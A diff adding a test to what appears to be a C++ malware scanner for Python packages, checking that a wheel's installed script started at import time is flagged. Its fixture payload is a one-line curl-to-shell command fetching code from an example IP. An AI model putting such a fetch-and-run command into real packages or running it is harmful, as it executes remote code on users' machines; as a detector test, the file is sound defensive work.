@@ -6,6 +6,7 @@
 #include <filesystem>
 #include <fstream>
 
+#include "support/python_rules.h"
 #include "support/test_archives.h"
 #include "util/file_util.h"
 
@@ -127,6 +128,27 @@ TEST_F(ScannerTest, FileRunWithTheInterpreterIsPythonWhateverItsName) {
       testing::MakeTar({File("p-1/setup.py", "from setuptools import setup\nv = open('p/stamp')\n"),
                         File("p-1/p/stamp", payload)});
   EXPECT_FALSE(in_file(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", not_run), "p-1/p/stamp"));
+}
+
+// A script the package installs on PATH (a wheel's .data/scripts/) that
+// import-time code starts by name is import-time Python; a file elsewhere
+// started by name is not read as Python.
+TEST_F(ScannerTest, InstalledScriptStartedAtImportIsImportTimePython) {
+  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+  const std::string init = "import os\nos.system('stampx')\n";
+  auto at_import = [&](const ScanResult& r, const std::string& file) {
+    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
+      return f.file == file && f.phase == Phase::kImport;
+    });
+  };
+  Scanner full(&testing::Rules(), {});
+  std::string whl = testing::MakeZip({File("p/__init__.py", init),
+                                      File("p-1.data/scripts/stampx", payload)});
+  EXPECT_TRUE(at_import(full.ScanBytes("p-1-py3-none-any.whl", "p-1-py3-none-any.whl", whl),
+                        "p-1.data/scripts/stampx"));
+  std::string elsewhere = testing::MakeZip({File("p/__init__.py", init), File("p/stampx", payload)});
+  EXPECT_FALSE(at_import(
+      full.ScanBytes("p-1-py3-none-any.whl", "p-1-py3-none-any.whl", elsewhere), "p/stampx"));
 }
 
 TEST_F(ScannerTest, SourceTreeOnDisk) {
